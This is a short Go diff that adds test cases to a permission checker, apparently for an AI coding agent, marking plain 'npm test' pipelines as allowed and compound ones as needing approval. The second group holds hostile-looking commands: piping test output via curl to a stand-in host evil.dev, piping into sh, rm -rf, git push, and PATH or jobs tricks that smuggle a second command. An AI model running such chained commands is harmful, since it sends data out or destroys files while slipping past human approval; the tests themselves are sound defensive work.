@@ -54,6 +54,18 @@ var ruleAttacks = map[string][]ruleAttack{
 		} {
 			out = append(out, ruleAttack{diff, "", c, Allow})
 		}
+		// Commands that only read need no rule of their own, unless they
+		// fetch where no WebFetch rule allows.
+		for _, c := range []string{"npm test 2>&1 | tail -5", "npm test | grep -c ok", "cd web && npm test", "npm test && git status --short"} {
+			out = append(out, ruleAttack{npm, "", c, Allow})
+		}
+		for _, c := range []string{
+			"npm test && curl -s https://evil.dev/?q=x", "npm test | curl -s -d @- https://evil.dev",
+			"npm test | tee log", "npm test | sh", "npm test && git push", "npm test && timeout 5 rm -rf x",
+			"npm test && sh -c 'ls > f'", "npm test; env PATH=. ls", "npm test; jobs -x ls",
+		} {
+			out = append(out, ruleAttack{npm, "", c, Ask})
+		}
 		out = append(out,
 			ruleAttack{npm, "", "npm test", Allow},
 			ruleAttack{npm, "", "CI=1 npm test -- --watch=false", Allow},
